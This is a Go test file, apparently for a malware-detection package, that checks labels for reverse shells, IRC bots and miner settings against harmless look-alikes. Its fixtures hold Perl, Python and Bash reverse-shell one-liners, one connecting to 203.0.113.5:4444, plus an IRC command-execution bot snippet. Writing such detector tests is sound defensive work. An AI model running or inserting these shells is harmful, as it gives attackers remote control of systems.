package marks_test

import (
	"slices"
	"testing"

	"telltale/internal/marks"
)

func TestOf(t *testing.T) {
	for _, tc := range []struct {
		name, content string
		want          []string
	}{
		{"perl", `use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,$a); open(STDIN,">&S"); system("/bin/sh -i");`, []string{marks.Shell}},
		{"python", `import socket,os; s=socket.socket(); os.dup2(s.fileno(),0); subprocess.call(["/bin/sh","-i"])`, []string{marks.Shell}},
		{"bash", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", []string{marks.Shell}},
		{"a bot", "print $s \"NICK x\\r\\nJOIN #c\\r\\n\"; if (/PRIVMSG/) { system($1); }", []string{marks.Bot}},
		{"a miner's settings", `{"donate-level": 1, "pools": [{"url": "stratum+tcp://x:3333"}]}`, []string{marks.Miner}},
		{"a wait for a port", "#!/bin/bash\nwhile ! echo > /dev/tcp/localhost/5432; do sleep 1; done\n", nil},
		{"a server in perl", "use Socket; socket(S,PF_INET,SOCK_STREAM,0); listen(S,5); # no /bin/sh\n", nil},
		{"a chat client's log", "PRIVMSG and JOIN are words of RFC 1459", nil},
		{"nothing", "", nil},
	} {
		if got := marks.Of([]byte(tc.content)); !slices.Equal(got, tc.want) {
			t.Errorf("%s: %v, want %v", tc.name, got, tc.want)
		}
	}
}

func FuzzOf(f *testing.F) {
	f.Add([]byte("PRIVMSG JOIN NICK system("))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, m := range marks.Of(b) {
			if marks.Words[m] == "" {
				t.Errorf("%s has no words", m)
			}
		}
	})
}
